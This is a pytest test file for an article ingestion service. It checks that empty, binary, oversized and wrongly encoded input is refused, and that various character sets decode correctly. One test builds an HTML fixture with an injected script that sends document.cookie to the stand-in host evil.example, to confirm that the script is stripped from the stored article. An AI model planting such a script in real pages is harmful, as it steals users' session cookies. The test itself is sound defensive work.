"""article_ingest: input it refuses with a clear message, storing nothing; input it decodes."""

from __future__ import annotations

import codecs

import pytest

from articles.models import Article, Claim, Quote, Speaker
from articles.services.ingest import IngestError, article_ingest

pytestmark = pytest.mark.django_db

ARTICLE = (
    "<html><head><meta charset='{charset}'><title>Caf\u00e9 owners protest new rent rules</title></head>"
    "<body><article><h1>Caf\u00e9 owners protest new rent rules</h1>"
    "<p>Owners of 120 caf\u00e9s marched through the city centre on Saturday to protest rent rules "
    "that they say will double their costs within two years.</p>"
    '<p>"We cannot survive this," said Jo\u00e3o Silva, who has run a caf\u00e9 near the station '
    "since 1998. The city says the rules protect tenants in flats above the shops.</p>"
    "</article></body></html>"
)


def assert_nothing_stored() -> None:
    assert (
        Article.objects.count(),
        Claim.objects.count(),
        Quote.objects.count(),
        Speaker.objects.count(),
    ) == (
        0,
        0,
        0,
        0,
    )


@pytest.mark.parametrize("content", ["", b"", "   \n\t \n", b"\xef\xbb\xbf  \r\n "])
def test_it_refuses_empty_input(content):
    with pytest.raises(IngestError, match="^The input is empty$"):
        article_ingest(content=content)
    assert_nothing_stored()


@pytest.mark.parametrize(
    "content",
    [
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4,
        "Some text\x00with a NUL",
        "".join(chr(c) for c in range(1, 9)) * 50 + "mostly control characters",
    ],
)
def test_it_refuses_binary_content(content):
    with pytest.raises(IngestError, match="^This looks like a binary file, not a page or article text$"):
        article_ingest(content=content)
    assert_nothing_stored()


def test_it_refuses_input_over_the_size_limit(monkeypatch):
    from articles import extraction

    def never(*args, **kwargs):
        raise AssertionError("the size must be checked before extracting")

    monkeypatch.setattr(extraction, "extract", never)
    content = b"word " * (6 * 1024 * 1024 // 5)

    with pytest.raises(IngestError, match=r"^The input is 6\.0 MB; the limit is 5\.0 MB$"):
        article_ingest(content=content)
    with pytest.raises(IngestError, match=r"^The input is 6\.0 MB; the limit is 5\.0 MB$"):
        article_ingest(content=content.decode())
    assert_nothing_stored()


def test_it_uses_the_configured_size_limit(settings):
    settings.INGEST_MAX_BYTES = 1024 * 1024

    with pytest.raises(IngestError, match=r"^The input is 1\.5 MB; the limit is 1\.0 MB$"):
        article_ingest(content=b"a" * (1536 * 1024))


def test_it_refuses_invalid_utf8():
    content = ARTICLE.format(charset="utf-8").encode("utf-8").replace("caf\u00e9s".encode(), b"caf\xe9s")

    with pytest.raises(IngestError, match=r"not valid UTF-8 \(byte 0xe9 at position \d+\)"):
        article_ingest(content=content.replace(b"<meta charset='utf-8'>", b""), mode="text")
    assert_nothing_stored()


def test_it_refuses_a_page_not_in_its_declared_charset():
    content = ARTICLE.format(charset="shift_jis").encode("utf-8") + b"\x81\x20\xff"

    with pytest.raises(IngestError, match="declares the character set 'shift_jis' but is not valid"):
        article_ingest(content=content, mode="html")
    assert_nothing_stored()


def test_it_refuses_an_unknown_declared_charset():
    content = ARTICLE.format(charset="klingon-8").encode("latin-1")

    with pytest.raises(IngestError, match="unknown character set 'klingon-8'"):
        article_ingest(content=content, mode="html")


def test_it_refuses_an_unknown_mode():
    with pytest.raises(IngestError, match="Unknown input mode 'pdf'"):
        article_ingest(content="An article. " * 30, mode="pdf")
    assert_nothing_stored()


@pytest.mark.parametrize(
    ("content", "mode"),
    [
        ("<html><body><nav><a href='/'>Home</a> <a href='/news'>News</a></nav></body></html>", "html"),
        ("Home\nNews\nSports\nWeather\nContact us", "page"),
        ("Page not found.", "text"),
    ],
)
def test_it_refuses_a_page_without_an_article(content, mode):
    with pytest.raises(IngestError, match="^No article text was found in this page$"):
        article_ingest(content=content, mode=mode)
    assert_nothing_stored()


def test_it_keeps_hostile_script_out_of_the_body():
    html = ARTICLE.format(charset="utf-8").replace(
        "</h1>",
        "</h1><script>document.cookie='stolen'; fetch('https://evil.example/'+document.cookie)</script>",
    )

    article = article_ingest(content=html, filename="page.html").article

    assert "Owners of 120" in article.body
    assert "document.cookie" not in article.body
    assert "evil.example" not in article.body
    assert not article.claims.filter(text__contains="document.cookie").exists()
    assert article.raw_input == html  # kept as it came, for the record; never rendered


@pytest.mark.parametrize(
    ("content", "mode"),
    [
        (codecs.BOM_UTF8 + ARTICLE.format(charset="utf-8").encode("utf-8"), "html"),
        (codecs.BOM_UTF16_LE + ARTICLE.format(charset="utf-16").encode("utf-16-le"), "html"),
        (codecs.BOM_UTF16_BE + ARTICLE.format(charset="utf-16").encode("utf-16-be"), "html"),
        (ARTICLE.format(charset="windows-1252").encode("cp1252"), "html"),
        (ARTICLE.format(charset="ISO-8859-1").encode("latin-1"), None),
        # Mislabelled: declared Latin-1 but really UTF-8, as many pages are.
        (ARTICLE.format(charset="iso-8859-1").encode("utf-8"), "html"),
    ],
)
def test_it_decodes_byte_order_marks_and_declared_charsets(content, mode):
    article = article_ingest(content=content, mode=mode).article

    assert "Owners of 120 caf\u00e9s marched" in article.body
    assert article.raw_input.startswith("<html>")
